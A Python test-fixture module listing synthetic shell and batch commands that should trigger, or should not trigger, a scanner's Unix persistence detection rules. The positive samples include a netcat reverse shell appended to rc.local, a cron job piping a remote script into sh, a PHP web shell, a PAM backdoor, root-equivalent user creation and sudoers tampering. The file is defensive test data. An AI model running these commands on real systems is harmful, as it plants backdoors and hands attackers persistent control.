"""Examples for the Unix persistence `TUX-` rules; all synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

SH = Lang.BASH
BAT = Lang.BATCH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    ("TUX-080", SH, 'echo "sh /tmp/a.sh" | at now + 1 minute'),
    ("TUX-080", SH, "at -f /tmp/job.sh now + 1 minute"),
    (
        "TUX-081",
        SH,
        "systemd-run --user --unit=x --on-calendar '*:0/1' /bin/sh -c 'id > /tmp/x'",
    ),
    ("TUX-081", SH, "systemctl enable --now art-timer.timer"),
    ("TUX-082", SH, "echo 'nc -e /bin/sh 192.0.2.10 4444 &' >> /etc/rc.local"),
    ("TUX-082", SH, "update-rc.d backdoor defaults"),
    (
        "TUX-083",
        SH,
        'echo \'ACTION=="add", RUN+="/tmp/a.sh"\' > /etc/udev/rules.d/99-x.rules',
    ),
    ("TUX-084", SH, "insmod /tmp/mod.ko"),
    ("TUX-084", SH, "sudo kextload /tmp/Evil.kext"),
    ("TUX-085", SH, "insmod diamorphine.ko"),
    ("TUX-086", SH, "cp evil.desktop ~/.config/autostart/evil.desktop"),
    ("TUX-087", SH, "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/su"),
    ("TUX-087", SH, "echo 'session optional pam_exec.so /tmp/a.sh' >> /etc/pam.d/sshd"),
    ("TUX-088", SH, "export LD_PRELOAD=/tmp/hook.so"),
    ("TUX-088", SH, "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib"),
    ("TUX-089", SH, "export PATH=/tmp:$PATH"),
    ("TUX-090", SH, "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash butter"),
    ("TUX-090", SH, "useradd -g 0 -M -d /root -s /bin/bash butter"),
    ("TUX-090", SH, "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"),
    ("TUX-091", SH, "sudo dscl . -create /Users/art"),
    ("TUX-091", SH, "sudo dseditgroup -o edit -a art -t user admin"),
    ("TUX-092", SH, "passwd -d root"),
    ("TUX-092", SH, "echo 'root:Passw0rd' | chpasswd"),
    ("TUX-093", SH, "sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers"),
    ("TUX-093", SH, "echo 'Defaults !tty_tickets' >> /etc/sudoers"),
    ("TUX-094", SH, "sudo cat /etc/sudoers"),
    ("TUX-095", SH, "setcap cap_setuid+ep /tmp/python3"),
    ("TUX-096", SH, "chmod u+s /tmp/runme"),
    ("TUX-097", SH, "bash -c 'trap \"nohup sh $DIR/echo-art-fish.sh\" EXIT'"),
    ("TUX-098", SH, "trap 'echo done' EXIT"),
    ("TUX-099", SH, "cp shell.php /var/www/html/uploads/shell.php"),
    ("TUX-099", BAT, "copy cmd.aspx C:\\inetpub\\wwwroot\\cmd.aspx"),
    ("TUX-100", SH, "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php"),
    (
        "TUX-101",
        SH,
        "printf '[Service]\\nExecStart=/tmp/.x/agent\\n' > /etc/systemd/system/x.service",
    ),
    ("TUX-102", SH, "echo 'import os; os.system(\"id\")' > /usr/lib/python3/dist-packages/x.pth"),
    (
        "TUX-103",
        SH,
        "sed -i 's|^#AuthorizedKeysFile.*|AuthorizedKeysFile .ssh/authorized_keys /tmp/.k|'"
        " /etc/ssh/sshd_config",
    ),
    ("TUX-104", SH, 'echo "* * * * * /tmp/evil.sh" > /tmp/p && crontab /tmp/p'),
    ("TUX-104", SH, "echo '*/5 * * * * curl -s x.example | sh' | crontab -"),
    (
        "TUX-105",
        BAT,
        "net user art-test Passw0rd! /add\nnet localgroup administrators art-test /add",
    ),
    ("TUX-105", SH, "useradd -m evil\nusermod -aG sudo evil"),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (SH, "trap 'rm -f \"$tmpfile\"' EXIT INT TERM\nmodprobe br_netfilter"),
    (SH, "useradd -m -s /bin/bash deploy\nusermod -aG docker deploy"),
    (SH, "export PATH=$HOME/.local/bin:$PATH\nsystemctl enable --now nginx"),
    (SH, "cp index.html /var/www/html/index.html\nchmod 755 /usr/local/bin/tool"),
    (SH, "echo 'auth required pam_faillock.so' >> /etc/pam.d/system-auth"),
)
